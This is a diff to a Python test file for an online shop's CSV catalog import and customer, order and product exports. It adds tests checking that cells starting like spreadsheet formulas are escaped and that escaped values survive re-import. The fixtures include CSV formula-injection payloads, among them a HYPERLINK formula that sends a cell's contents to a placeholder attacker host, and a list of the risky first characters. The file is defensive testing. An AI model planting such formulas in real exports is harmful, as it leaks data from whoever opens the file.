@@ -1,8 +1,11 @@
-"""The catalog as a CSV file: every row checked before anything is written, the same bounds as staff's
-commands, and a large file written in short transactions."""
+"""CSV files: the catalog's (every row checked before anything is written, the same bounds as staff's
+commands, a large file written in short transactions, photos only from the media folder) and the exports
+staff open in a spreadsheet (no cell runs as a formula)."""
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 from typing import Any
 
@@ -11,8 +14,10 @@ from markupsafe import Markup
 from PIL import Image
 
 from handlers.render import Renderer
-from shop import catalog
-from tests.shop.test_checkout import CONFIG
+from shop import cart as carts
+from shop import catalog, checkout, crm
+from tests.factories import make_customer, make_product
+from tests.shop.test_checkout import CONFIG, ready_checkout
 
 HEADER = "sku,name,category,price,stock,brand,description,photo,featured,active\n"
 MEDIA = Path("media-not-used")  # these files name no photos
@@ -202,3 +207,67 @@ async def test_a_photo_is_a_link_or_an_image_inside_the_media_folder(uow: Any, t
     good = "".join(f"P-{i},Product,,1.00,1,,,{photo},,\n" for i, (photo, bad) in enumerate(photos) if not bad)
     async with uow() as u:
         assert (await catalog.import_products_csv(u, HEADER + good, "USD", media)).created == 5
+
+
+def formulas(text: str) -> list[str]:
+    """The cells of a CSV file that a spreadsheet would run (OWASP's list of first characters)."""
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    return [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+async def test_exports_write_no_cell_a_spreadsheet_would_run(uow: Any) -> None:
+    """Customers name themselves, staff name products: /export customers, orders and products put a ' before
+    a cell that starts like a formula; numbers stay numbers."""
+    link = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
+    ann = await make_customer(uow, link, last_name="+1 (ignore)", username="@ann")
+    tea = await make_product(uow, "@SUM(A1)", "-10% tea", stock=5)
+    async with uow() as u:
+        await carts.add_to_cart(u, ann.id, tea.id, 1, CONFIG)
+    token = await ready_checkout(uow, ann)
+    async with uow() as u:
+        order = (await checkout.place_order(u, ann, token, CONFIG)).order
+    async with uow() as u:
+        customers = await crm.export_customers_csv(u, "USD")
+        orders = await crm.export_orders_csv(u)
+        products = await catalog.export_products_csv(u, "USD")
+    for exported in (customers, orders, products):
+        assert formulas(exported) == []
+    rows = list(csv.DictReader(io.StringIO(customers)))
+    assert [(r["first_name"], r["last_name"], r["username"], r["id"]) for r in rows] == [
+        ("'" + link, "'+1 (ignore)", "'@ann", str(ann.id))
+    ]
+    (row,) = csv.DictReader(io.StringIO(orders))
+    assert (row["number"], row["items"], row["total_minor"]) == (
+        str(order.id),
+        "'@SUM(A1) x1",
+        str(order.total_minor),
+    )
+
+
+async def test_an_exported_catalog_imports_as_it_was(uow: Any) -> None:
+    """The importer takes the guard off again: text that looked like a formula, or began with ' already,
+    comes back unchanged."""
+    names = ["=1+2", "'=quoted", "''@twice", "'90s mix", "+plus", "Plain tea"]
+    text = HEADER + "".join(
+        f"S-{i},{name},+Specials,1.50,{i},@brand,-10% today,,no,yes\n" for i, name in enumerate(names)
+    )
+    text = text.replace("S-0,", "-S0,")  # a SKU may begin with a minus
+    async with uow() as u:
+        assert (await catalog.import_products_csv(u, text, "USD", MEDIA)).errors == []
+
+    async def products() -> list[tuple[Any, ...]]:
+        async with uow() as u:
+            return [
+                (p.sku, p.name, p.category.name, p.brand, p.description, p.price_minor, p.stock)
+                for p in await u.catalog.all_products()
+            ]
+
+    before = await products()
+    assert before[0] == ("-S0", "=1+2", "+Specials", "@brand", "-10% today", 150, 0)
+    async with uow() as u:
+        exported = await catalog.export_products_csv(u, "USD")
+    assert formulas(exported) == []
+    async with uow() as u:
+        again = await catalog.import_products_csv(u, exported, "USD", MEDIA)
+    assert (again.created, again.updated, again.errors) == (0, len(names), [])
+    assert await products() == before
